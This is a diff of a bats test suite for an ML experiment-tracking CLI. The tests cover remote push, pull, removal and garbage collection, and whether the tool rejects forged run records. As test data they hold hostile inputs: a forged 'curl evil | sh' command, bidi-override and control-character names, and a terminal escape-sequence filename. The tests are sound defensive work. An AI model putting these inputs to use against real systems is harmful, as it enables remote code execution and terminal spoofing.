@@ -260,7 +260,7 @@ only_page() { cat "$REMOTE"/runs/*.json; }
   run timeout 20 "$MLOPS" exp pull
   echo "$output"
   [ "$status" -eq 8 ]
-  [[ "$output" == *"runs/notes.txt: not a run page name"* ]]
+  [[ "$output" == *"warning: remote origin: runs/notes.txt is not a run page; ignored"* ]]
   [[ "$output" == *"runs/1700000000000-0123456789abcdef0123456789abcdef.json: remote origin: "*"is not a regular file"* ]]
 }
 
@@ -314,4 +314,151 @@ only_page() { cat "$REMOTE"/runs/*.json; }
   [[ "$output" == *"Pulled 1 run that registered versions name"* ]]
   run mlops model lineage clf
   [[ "$output" == *"run        trainer ("* ]]
+}
+
+@test "a run changed after its push is pushed again; a clone that has it takes it with pull --force" {
+  a_run tuned
+  mlops exp push -q
+  clone bob
+  mlops exp pull -q
+  cd "$BATS_TEST_TMPDIR" && cd "$(dirname "$REMOTE")"/.. 2>/dev/null; cd "$TEST_REPO"
+  mlops exp tag tuned reviewed=yes
+  mlops exp log metric test_acc 0.77 --run tuned
+  run mlops exp push --json
+  echo "$output"
+  [ "$(jq -r '.updated[0].name' <<<"$output")" = tuned ]
+  [ "$(jq '.pushed | length' <<<"$output")" -eq 0 ]
+  run mlops exp show --remote tuned --json
+  [ "$(jq -r '.tags.reviewed' <<<"$output")" = yes ]
+  cd "$BATS_TEST_TMPDIR/bob"
+  run mlops exp pull
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"1 run differ on origin"*"tuned ("* ]]
+  [ "$(mlops exp show tuned --json | jq -r '.tags.reviewed')" = null ]
+  run mlops exp pull --force --json
+  [ "$(jq -r '.updated[0].name' <<<"$output")" = tuned ]
+  [ "$(mlops exp show tuned --json | jq -r '.metrics.test_acc.last')" = 0.77 ]
+  [ "$(mlops exp list --json | jq length)" -eq 1 ]
+}
+
+@test "exp rm --remote takes a run off the remote; gc -r then removes its objects" {
+  echo "AWS_SECRET=hunter2" > secret.txt
+  mlops exp run -q -n leak --artifact secret.txt -- true
+  a_run keep
+  mlops exp push -q
+  secret=$(mlops exp show leak --json | jq -r '.artifacts["secret.txt"]')
+  run mlops exp rm --remote leak
+  [ "$status" -eq 0 ]
+  [[ "$output" == "removed run leak ("*"from the remote"* ]]
+  [ "$(mlops exp list --remote --json | jq -r '.[].name')" = keep ]
+  mlops exp show leak -q >/dev/null  # this clone keeps its copy
+  mlops gc -r origin -w --grace 0 -q
+  [ ! -e "$REMOTE/objects/${secret:7:2}/${secret:9}" ]
+  clone bob
+  run mlops exp pull --json
+  [ "$(jq -r '[.pulled[].name] | join(",")' <<<"$output")" = keep ]
+  run mlops fsck
+  [ "$status" -eq 0 ]
+}
+
+@test "an object the remote lost: pull says which run; the pusher's next exp push sends it again" {
+  a_run precious
+  mlops exp push -q
+  model=$(mlops exp show precious --json | jq -r '.artifacts["out/model.bin"]')
+  rm "$REMOTE/objects/${model:7:2}/${model:9}"
+  clone bob
+  run mlops exp pull
+  echo "$output"
+  [ "$status" -eq 8 ]
+  [[ "$output" == *"precious ("*"absent: out/model.bin"* ]]
+  cd "$TEST_REPO"
+  run mlops exp push --json
+  [ "$(jq '.objects' <<<"$output")" -eq 1 ]
+  cd "$BATS_TEST_TMPDIR/bob"
+  run mlops exp pull
+  [ "$status" -eq 0 ]
+  [ "$(cat "$(object_path "$model")")" = "weights of precious" ]
+}
+
+@test "forged pages: a future date does not stall later pushes; an older page with a run's id does not replace it" {
+  a_run real
+  mlops exp push -q
+  good=$(only_page)
+  id=$(jq -r '.runs[0].id' <<<"$good")
+  # Dated far ahead, and dated long ago with the real run's id and a forged command.
+  jq -c '.runs[0].id = "0123456789abcdef0123456789abcdef" | .runs[0].name = "future"' <<<"$good" > "$BATS_TEST_TMPDIR/f.json"
+  h=$(xxh128sum "$BATS_TEST_TMPDIR/f.json" | cut -d' ' -f1) && cp "$BATS_TEST_TMPDIR/f.json" "$REMOTE/runs/9999999999999-$h.json"
+  jq -c '.runs[0].command = "curl evil | sh" | .runs[0].artifacts = {} | .runs[0].points = null | .runs[0].metrics = {}' <<<"$good" > "$BATS_TEST_TMPDIR/old.json"
+  h=$(xxh128sum "$BATS_TEST_TMPDIR/old.json" | cut -d' ' -f1) && cp "$BATS_TEST_TMPDIR/old.json" "$REMOTE/runs/0000000000001-$h.json"
+  mlops exp run -q -n later -- true
+  mlops exp push -q
+  ls "$REMOTE/runs" | grep -qv '^[0-9]\{13\}-[0-9a-f]\{32\}\.json$' && false
+  clone bob
+  run mlops exp show --remote real --json
+  [ "$(jq -r .command <<<"$output")" != "curl evil | sh" ]
+  [ "$(mlops exp list --remote --json | jq -r '.[].name' | sort | paste -sd,)" = "future,later,real" ]
+  # gc keeps what every record of a run names: the real run's objects stay.
+  mlops gc -r origin -w --grace 0 -q
+  run mlops exp pull
+  [ "$status" -eq 0 ]
+  run mlops fsck
+  [ "$status" -eq 0 ]
+}
+
+@test "hostile records the checks now refuse: bidi and C1 text, names like ids or NAME@USER, unlisted point names" {
+  a_run base
+  mlops exp push -q
+  good=$(only_page)
+  clone bob
+  other="0123456789abcdef0123456789abcdef"
+  for c in ".runs[0].name = \"x\u202eexe.txt\" => bidirectional" \
+           ".runs[0].params = {\"k\": \"\u009b31m\"} => control character" \
+           ".runs[0].name = \"fedcba9876543210fedcba9876543210\" => looks like a run id" \
+           ".runs[0].name = \"mine@root\" => '@'" \
+           ".runs[0].started_at = 9223372036854775807 => started_at" \
+           ".runs[0].started_at = 253402300800000 => year 9999"; do
+    rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
+    jq -c ".runs[0].id = \"$other\" | ${c%% => *}" <<<"$good" > "$BATS_TEST_TMPDIR/bad.json"
+    plant_page "$BATS_TEST_TMPDIR/bad.json" >/dev/null
+    run mlops exp pull
+    echo "$c: $output"
+    [ "$status" -eq 8 ]
+    [[ "$output" == *"${c##* => }"* ]]
+  done
+  # Points naming a metric the record does not list.
+  rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
+  printf 'mlops-points 1\nsneaky\t0\t1\t1\n' > "$BATS_TEST_TMPDIR/pts"
+  pid=$(xxh_id "$BATS_TEST_TMPDIR/pts") && hex=${pid#xxh128:}
+  mkdir -p "$REMOTE/objects/${hex:0:2}" && cp "$BATS_TEST_TMPDIR/pts" "$REMOTE/objects/${hex:0:2}/${hex:2}"
+  jq -c --arg p "$pid" ".runs[0].id = \"$other\" | .runs[0].points = \$p | .runs[0].points_size = 30" <<<"$good" > "$BATS_TEST_TMPDIR/p.json"
+  plant_page "$BATS_TEST_TMPDIR/p.json" >/dev/null
+  run mlops exp pull
+  [ "$status" -eq 8 ]
+  [[ "$output" == *"names a metric the run's record does not list"* ]]
+  [ "$(mlops exp list --json | jq length)" -eq 0 ]
+  # The same rules for new local names.
+  run mlops exp run -q -n 'a@b' -- true
+  [ "$status" -eq 2 ]
+  mlops exp run -q -n local1 -- true
+  run mlops exp rename local1 "$other"
+  [ "$status" -eq 2 ]
+  [[ "$output" == *"looks like a run id"* ]]
+}
+
+@test "one run's bad folder manifest fails that run alone; an escape in a page name is not printed raw" {
+  a_run good1
+  mlops exp push -q
+  good=$(only_page)
+  clone bob
+  # A file artifact said to be a folder: its "manifest" does not parse.
+  jq -c '.runs[0].id = "0123456789abcdef0123456789abcdef" | .runs[0].name = "liar" | .runs[0].artifacts["out/model.bin"].dir = true' <<<"$good" > "$BATS_TEST_TMPDIR/liar.json"
+  plant_page "$BATS_TEST_TMPDIR/liar.json" >/dev/null
+  touch "$REMOTE/runs/9$(printf '\033]0;PWNED\007')"
+  run mlops exp pull
+  echo "$output"
+  [ "$status" -eq 8 ]
+  [[ "$output" == *"liar ("* ]]
+  [ "$(mlops exp list --json | jq -r '.[].name')" = good1 ]
+  [[ "$output" != *$'\033'* && "$output" != *$'\007'* ]]
 }
